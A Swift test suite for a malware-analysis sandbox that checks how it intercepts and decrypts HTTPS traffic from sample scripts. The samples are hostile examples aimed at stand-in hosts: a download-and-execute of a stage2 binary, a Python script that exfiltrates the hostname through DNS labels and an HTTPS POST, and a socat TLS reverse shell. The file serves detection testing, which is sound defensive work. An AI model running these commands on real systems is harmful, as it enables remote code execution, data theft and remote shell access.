import Crypto
import Foundation
import Petri
import PetriModel
import Testing

/// HTTPS in the clear (issue 16): real TLS clients run in the sandbox against https://*.example; the
/// simulated internet terminates TLS with a certificate minted for the name, signed by the run's CA
/// that only this sandbox trusts. The decrypted requests are HTTP records marked `tls`; the saved
/// key log decrypts the pcap in tshark; a client with its own trust refuses and is recorded with its alert.
@Suite("network: HTTPS in the clear", .serialized)
struct NetworkTLSTests {
    struct Run { let report: Report; let artifacts: String }

    static func analyze(_ tag: String, _ script: String, timeout: Double = 25) throws -> Run {
        let dir = TestPrograms.tempDir("tls-\(tag)")
        let sample = dir + "/\(tag).sh"
        try script.write(toFile: sample, atomically: true, encoding: .utf8)
        chmod(sample, 0o755)
        var o = Analysis.Options(profile: try Fixtures.profile())
        o.networkMode = "sinkhole"
        o.timeoutSeconds = timeout
        o.artifactsDirectory = dir + "/art"
        o.reportPath = dir + "/report.json"
        let outcome = try Analysis.run(samplePath: sample, options: o)
        SchemaCheck.validate(outcome.reportPath)
        return Run(report: outcome.report, artifacts: dir + "/art")
    }

    static func tool(_ path: String, _ package: String) -> Bool {
        if FileManager.default.isExecutableFile(atPath: path) { return true }
        Issue.record("missing prerequisite: \(path) (apt-get install \(package))")
        return false
    }

    static func sha256(_ s: String) -> String { SHA256.hash(data: Data(s.utf8)).map { String(format: "%02x", $0) }.joined() }

    /// tshark on the saved capture with the saved key log: "host<TAB>uri" of each decrypted request.
    static func tsharkRequests(_ run: Run) -> [String] {
        guard let pcap = run.report.network.pcap, let keylog = run.report.network.keylog else { return [] }
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/bin/tshark")
        p.arguments = ["-n", "-r", run.artifacts + "/" + pcap, "-o", "tls.keylog_file:" + run.artifacts + "/" + keylog,
                       "-Y", "http.request", "-T", "fields", "-e", "http.host", "-e", "http.request.method", "-e", "http.request.uri"]
        let out = Pipe()
        p.standardOutput = out
        p.standardError = FileHandle.nullDevice
        guard (try? p.run()) != nil else { return [] }
        let data = out.fileHandleForReading.readDataToEndOfFile()
        p.waitUntilExit()
        return String(decoding: data, as: UTF8.self).split(separator: "\n").map(String.init)
    }

    @Test("curl and wget over HTTPS: decrypted requests recorded like HTTP, the download served, tshark decrypts the pcap")
    func curlAndWget() throws {
        guard Self.tool("/usr/bin/curl", "curl"), Self.tool("/usr/bin/wget", "wget"), Self.tool("/usr/bin/tshark", "tshark") else { return }
        let body = "id=42&stage=two"
        let run = try Self.analyze("curl", """
            #!/bin/sh
            curl -sS -m 8 -o /tmp/stage2 https://www.update.example/files/stage2.bin && chmod +x /tmp/stage2 && /tmp/stage2
            curl -sS -m 8 -A 'agent/7' -H 'X-Session: s-1' --data '\(body)' https://api.update.example/v1/report
            wget -q -T 8 -O /tmp/tool.sh https://files.mirror.example/tool.sh

            """)
        let r = run.report
        let http = r.network.http
        let get = try #require(http.first { $0.path == "/files/stage2.bin" }, "http: \(http.map(\.url)) tls: \(r.network.tls)")
        #expect(get.url == "https://www.update.example/files/stage2.bin" && get.tls == true && get.method == "GET")
        #expect(get.host == "www.update.example" && get.headers["user-agent"]?.hasPrefix("curl/") == true)
        #expect(get.response == "payload:builtin-elf" && get.pid != nil && get.servedExecuted == true, "\(get)")
        #expect(r.output.stdoutPreview.contains("petri simulated payload"), "the served download ran: \(r.output.stdoutPreview)")
        let post = try #require(http.first { $0.path == "/v1/report" })
        #expect(post.method == "POST" && post.tls == true && post.headers["x-session"] == "s-1" && post.headers["user-agent"] == "agent/7")
        #expect(post.bodySize == UInt64(body.utf8.count) && post.bodySha256 == Self.sha256(body) && post.bodyPreview == body)
        let wget = try #require(http.first { $0.host == "files.mirror.example" })
        #expect(wget.tls == true && wget.headers["user-agent"]?.lowercased().hasPrefix("wget") == true)
        for name in ["www.update.example", "api.update.example", "files.mirror.example"] {
            let t = try #require(r.network.tls.first { $0.sni == name }, "no tls record for \(name): \(r.network.tls)")
            #expect(t.handshake == "completed" && t.certificate == name && t.alert == nil && t.negotiatedVersion != nil, "\(t)")
        }
        // The behaviours see the decrypted download like a plain one.
        #expect(r.behaviours.contains { $0.id == "downloads-and-executes" }, "behaviours: \(r.behaviours.map(\.id))")
        // Key log beside the capture; tshark decrypts the HTTP requests with it.
        #expect(r.network.keylog == "tls-keys.log" && r.network.tlsCA == "tls-ca.pem")
        let keylog = (try? String(contentsOfFile: run.artifacts + "/tls-keys.log", encoding: .utf8)) ?? ""
        #expect(keylog.contains("CLIENT_TRAFFIC_SECRET_0") || keylog.contains("CLIENT_RANDOM"), "key log: \(keylog.prefix(200))")
        let seen = Self.tsharkRequests(run)
        #expect(seen.contains("www.update.example\tGET\t/files/stage2.bin"), "tshark: \(seen)")
        #expect(seen.contains("api.update.example\tPOST\t/v1/report"), "tshark: \(seen)")
    }

    @Test("Python urllib over HTTPS, and an exfiltrator: host name in DNS labels (hex) and base64 in an HTTPS body")
    func pythonAndExfiltrator() throws {
        let py = """
        #!/usr/bin/python3
        import base64, binascii, json, socket, urllib.request
        r = urllib.request.urlopen(urllib.request.Request("https://cdn.pyupdate.example/check?v=3", headers={"X-Client": "py"}), timeout=8)
        print("status", r.status, len(r.read()))
        host = socket.gethostname()
        try: socket.getaddrinfo(binascii.hexlify(host.encode()).decode() + ".t.exfil.example", 80)
        except OSError: pass
        blob = base64.b64encode(json.dumps({"h": host}).encode())
        urllib.request.urlopen(urllib.request.Request("https://drop.exfil.example/u", data=blob), timeout=8).read()

        """
        let run = try Self.analyze("py", py)
        let r = run.report
        let check = try #require(r.network.http.first { $0.host == "cdn.pyupdate.example" }, "\(r.network.http.map(\.url)) \(r.network.tls)")
        #expect(check.tls == true && check.query == "v=3" && check.headers["x-client"] == "py" && check.headers["user-agent"]?.hasPrefix("Python-urllib") == true)
        #expect(r.output.stdoutPreview.contains("status 200"))
        let drop = try #require(r.network.http.first { $0.host == "drop.exfil.example" })
        #expect(drop.tls == true && drop.method == "POST")
        let identity = r.behaviours.first { $0.id == "sends-system-identity" }
        #expect(identity != nil, "behaviours: \(r.behaviours.map(\.id))")
        let e = identity?.evidence
        let cited = ((e?.network ?? []) + (e?.notes ?? [])).joined(separator: " | ")
        #expect(cited.contains("drop.exfil.example") && cited.contains("t.exfil.example"), "both channels cited: \(String(describing: e))")
    }

    @Test("clients with their own trust refuse the minted certificate: recorded as failed handshakes with the alert; the system trust accepts it")
    func pinningClientsRefuse() throws {
        guard Self.tool("/usr/bin/openssl", "openssl"), Self.tool("/usr/bin/curl", "curl") else { return }
        let run = try Self.analyze("pin", """
            #!/bin/sh
            openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj /CN=Own -days 2 \\
                -keyout /tmp/own.key -out /tmp/own.pem 2>/dev/null
            openssl s_client -connect pinned.c2.example:443 -servername pinned.c2.example -CAfile /tmp/own.pem -no-CApath \\
                -verify_return_error </dev/null >/dev/null 2>&1
            curl -s -m 8 --cacert /tmp/own.pem https://pinned2.c2.example/ >/dev/null
            python3 -c 'import ssl,urllib.request; urllib.request.urlopen("https://pinned3.c2.example/", context=ssl.create_default_context(cafile="/tmp/own.pem"), timeout=8)' 2>/dev/null
            openssl s_client -connect trusted.c2.example:443 -servername trusted.c2.example -verify_return_error </dev/null 2>&1 | grep 'Verify return code'
            curl -s -m 8 --pinnedpubkey 'sha256//AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=' https://pinned4.c2.example/ >/dev/null; echo "pinned curl exit $?"
            curl -s -m 8 https://fetched.c2.example/ >/dev/null

            """)
        let r = run.report
        for name in ["pinned.c2.example", "pinned2.c2.example", "pinned3.c2.example"] {
            let t = try #require(r.network.tls.first { $0.sni == name }, "no tls record for \(name): \(r.network.tls)")
            #expect(t.handshake == "failed" && t.alert == "unknown_ca", "\(name): \(t)")
            #expect(t.pid != nil)
            #expect(!r.network.http.contains { $0.host == name })
        }
        let ok = try #require(r.network.tls.first { $0.sni == "trusted.c2.example" })
        #expect(ok.handshake == "completed" && ok.alert == nil)
        #expect(r.output.stdoutPreview.contains("Verify return code: 0 (ok)"), "the system bundle trusts the run's CA: \(r.output.stdoutPreview)")
        #expect(r.behaviours.contains { $0.id == "tls-certificate-refused" }, "behaviours: \(r.behaviours.map(\.id))")
        // A key pinned and checked after the handshake: the handshake completed, then curl closed
        // without a request (exit 90, CURLE_SSL_PINNEDPUBKEYNOTMATCH); a client that sent its request
        // shows the bytes. Failed handshakes carry no byte count.
        #expect(r.output.stdoutPreview.contains("pinned curl exit 90"), "\(r.output.stdoutPreview)")
        let pinned = try #require(r.network.tls.first { $0.sni == "pinned4.c2.example" })
        #expect(pinned.handshake == "completed" && pinned.clientBytes == 0 && pinned.alert == nil, "\(pinned)")
        #expect(!r.network.http.contains { $0.host == "pinned4.c2.example" })
        let fetched = try #require(r.network.tls.first { $0.sni == "fetched.c2.example" })
        #expect(fetched.handshake == "completed" && (fetched.clientBytes ?? 0) > 0, "\(fetched)")
        #expect(r.network.http.contains { $0.host == "fetched.c2.example" })
        #expect(r.network.tls.filter { $0.handshake == "failed" }.allSatisfy { $0.clientBytes == nil })
    }

    @Test("benign: a client that trusts the system bundle is not a refusal")
    func trustedClientIsNotARefusal() throws {
        guard Self.tool("/usr/bin/curl", "curl") else { return }
        let run = try Self.analyze("trusted", """
            #!/bin/sh
            curl -s -m 8 https://www.news.example/ >/dev/null
            grep -q ca-certificates /proc/self/mountinfo && echo bundle-mounted || echo bundle-plain

            """)
        let t = try #require(run.report.network.tls.first { $0.sni == "www.news.example" }, "\(run.report.network.tls)")
        #expect(t.handshake == "completed")
        // On the guest image the bundle is a lower layer of /etc: no mount of its own to find, no change of the run.
        #expect(run.report.run.guest != nil, "the default profile runs on the guest image")
        #expect(run.report.output.stdoutPreview.contains("bundle-plain"), "\(run.report.output.stdoutPreview)")
        #expect(!run.report.files.contains { $0.path.hasPrefix("/etc/ssl") })
        #expect(!run.report.behaviours.contains { $0.id == "tls-certificate-refused" })
    }

    @Test("a TLS-wrapped reverse shell is probed and confirmed like a plain one")
    func tlsReverseShell() throws {
        guard Self.tool("/usr/bin/socat", "socat") else { return }
        let run = try Self.analyze("tls-shell", "#!/bin/sh\nsocat OPENSSL:shell.c2.example:443,verify=0 EXEC:/bin/sh\n")
        let r = run.report
        let shell = r.network.other.first { $0.service == "shell" }
        #expect(shell != nil, "\(r.network.other.map { "\($0.service) \($0.lines.prefix(2))" }) tls: \(r.network.tls)")
        #expect(r.network.tls.first { $0.sni == "shell.c2.example" }?.handshake == "completed")
        #expect(r.behaviours.contains { $0.id == "network-shell-confirmed" })
    }
}
